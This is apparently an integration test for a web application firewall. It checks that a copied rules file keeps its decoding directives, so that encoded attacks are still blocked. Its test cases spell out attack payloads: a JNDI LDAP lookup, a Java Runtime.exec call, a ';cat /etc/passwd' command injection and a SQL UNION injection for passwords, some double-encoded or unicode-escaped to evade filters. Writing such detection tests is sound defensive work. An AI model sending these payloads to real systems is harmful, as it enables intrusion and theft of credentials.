/**
 * A rule file's `# warden:` directives travel with the file (src/signatures/file-directives.ts): the
 * bundled warden.rules copied to another directory and loaded through `rules.files` gives the same
 * verdict and the same rule hits, request by request, as the bundled rules loaded from the tree, behind
 * the real proxy and a real NGINX. Before session 31 the decoded views were given by the file's path,
 * and the copy missed what only a decoded view shows (a `\u`-escaped JNDI lookup, a twice-encoded one).
 * A third-party file does not get the views unless it declares them.
 */
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startNginx, type NginxUpstream } from '../helpers/nginx.js';
import { startTestWarden } from '../helpers/warden.js';
import { readLogLines, type LogLine } from '../helpers/log-lines.js';
import type { RunningWarden } from '../../src/warden.js';

type Running = RunningWarden & { origin: string; logFile: string };
const BUNDLED = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
const u = (s: string): string => [...s].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const twice = (s: string): string => encodeURIComponent(encodeURIComponent(s));

interface Case {
  id: string;
  method: 'GET' | 'POST';
  path: string;
  json?: string;
}
/** Attacks seen only through a decoded view, attacks seen plainly, and benign requests near them. */
const CASES: Case[] = [
  { id: 'jndi-u-escaped', method: 'POST', path: '/api/import', json: `{"url":"${u('${jndi:ldap://x.example/a}')}"}` },
  { id: 'exec-u-escaped', method: 'POST', path: '/api/import', json: `{"expr":"${u('java.lang.Runtime.getRuntime().exec("id")')}"}` },
  { id: 'jndi-twice-encoded', method: 'GET', path: `/s?q=${twice('${jndi:ldap://x.example/a}')}` },
  { id: 'cmd-twice-encoded', method: 'GET', path: `/s?q=${twice(';cat /etc/passwd')}` },
  { id: 'union-plain', method: 'GET', path: `/s?q=${encodeURIComponent("1' UNION SELECT username,password FROM users--")}` },
  { id: 'benign-search', method: 'GET', path: `/s?q=${encodeURIComponent('Search results for lamps')}` },
  { id: 'benign-json', method: 'POST', path: '/api/import', json: `{"title":"${u('Café menu: été 2026')}","tags":["food","summer"]}` },
  { id: 'benign-query', method: 'GET', path: `/s?q=${twice('100% cotton, size M')}` },
];

let nginx: NginxUpstream;
const wardens: Running[] = [];

async function send(w: Running, c: Case): Promise<number> {
  const res = await request(`${w.origin}/case/${c.id}${c.path}`, {
    method: c.method,
    headers: c.json === undefined ? {} : { 'content-type': 'application/json' },
    body: c.json,
  });
  await res.body.text();
  return res.statusCode;
}

/** Per case: the status, the action logged and the signature hits (rule and decoding), in the order logged. */
async function verdicts(w: Running): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const c of CASES) out[c.id] = `${await send(w, c)}`;
  const deadline = Date.now() + 10_000;
  for (;;) {
    const pathOf = (l: LogLine): string => (l.request as { path?: string } | undefined)?.path ?? '';
    const lines = readLogLines(w.logFile).filter((l) => pathOf(l).startsWith('/case/'));
    if (lines.length >= CASES.length || Date.now() > deadline) {
      for (const l of lines) {
        const id = pathOf(l).split('/')[2];
        const hits = ((l.reasons as Array<{ gate: string; ruleId: string; decoded?: string }>) ?? []).filter((r) => r.gate === 'signatures').map((r) => `${r.ruleId}${r.decoded ? `/${r.decoded}` : ''}`);
        out[id] += ` ${String(l.action)} [${hits.sort().join(' ')}]`;
      }
      return out;
    }
    await new Promise((r) => setTimeout(r, 25));
  }
}

let tree: Record<string, string>;
let copied: Record<string, string>;
let stripped: Record<string, string>;

beforeAll(async () => {
  nginx = await startNginx();
  const dir = mkdtempSync(join(tmpdir(), 'warden-directives-'));
  copyFileSync(BUNDLED, join(dir, 'warden.rules'));
  writeFileSync(join(dir, 'no-directives.rules'), readFileSync(BUNDLED, 'latin1').replace(/^# warden:.*\n/gm, ''), 'latin1');
  const common = { model: { enabled: false }, logging: { logAllowed: true } };
  wardens.push(await startTestWarden(nginx.origin, common));
  wardens.push(await startTestWarden(nginx.origin, { ...common, rules: { bundled: false, files: [join(dir, 'warden.rules')] } }));
  wardens.push(await startTestWarden(nginx.origin, { ...common, rules: { bundled: false, files: [join(dir, 'no-directives.rules')] } }));
  [tree, copied, stripped] = [await verdicts(wardens[0]), await verdicts(wardens[1]), await verdicts(wardens[2])];
}, 120_000);

afterAll(async () => {
  for (const w of wardens) await w.close();
  await nginx?.stop();
});

describe('rule file directives: a copied warden.rules is read as the bundled one', () => {
  it('gives the same verdict and the same hits on every request, the decoded-view ones included', () => {
    expect(Object.keys(tree)).toHaveLength(CASES.length);
    expect(copied).toEqual(tree);
    expect(tree['jndi-u-escaped']).toMatch(/^403 block \[1:90008\d\d\/json-body\]$/);
    expect(tree['cmd-twice-encoded']).toMatch(/^403 block \[1:9000375\/url\]$/);
    expect(tree['benign-search']).toMatch(/^200 allow \[\]$/);
  });

  it('without its directive lines the same rules miss what only a decoded view shows', () => {
    expect(stripped['jndi-u-escaped']).toBe('200 allow []');
    expect(stripped['cmd-twice-encoded']).not.toMatch(/\/url/);
    expect(stripped['union-plain']).toBe(tree['union-plain']);
  });
});
